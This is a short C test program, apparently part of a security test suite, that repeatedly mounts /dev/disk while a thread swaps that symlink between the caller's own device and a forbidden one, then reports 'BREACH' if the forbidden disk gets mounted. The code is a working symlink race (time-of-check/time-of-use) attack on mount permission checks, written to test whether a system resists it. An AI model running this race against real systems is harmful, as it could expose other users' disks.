/*
 * disks COUNT: mounts /dev/disk on /root COUNT times. Meanwhile a thread makes that name lead to /dev/own and to
 * /dev/other in turns. The caller may not open /dev/other.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#include "attack.h"

static void *flip(void *unused)
{
    for (;;) {
        symlink("/dev/other", "/dev/next");
        rename("/dev/next", "/dev/disk");
        symlink("/dev/own", "/dev/next");
        rename("/dev/next", "/dev/disk");
    }
    return unused;
}

int main(int argc, char **argv)
{
    struct stat own, mounted;

    if (stat("/dev/own", &own) < 0 || symlink("/dev/own", "/dev/disk") < 0)
        fail("disks");
    start_thread(flip, NULL);
    for (int i = 0; i < (argc > 1 ? atoi(argv[1]) : 1); i++) {
        if (mount("/dev/disk", "/root", "ext4", MS_RDONLY, NULL) < 0) {
            saw("refused, %s", strerror(errno));
            continue;
        }
        if (stat("/root", &mounted) < 0)
            fail("/root");
        saw(mounted.st_dev == own.st_rdev ? "own" : "BREACH: another's disk");
        umount2("/root", MNT_DETACH);
    }
    report();
    return 0;
}
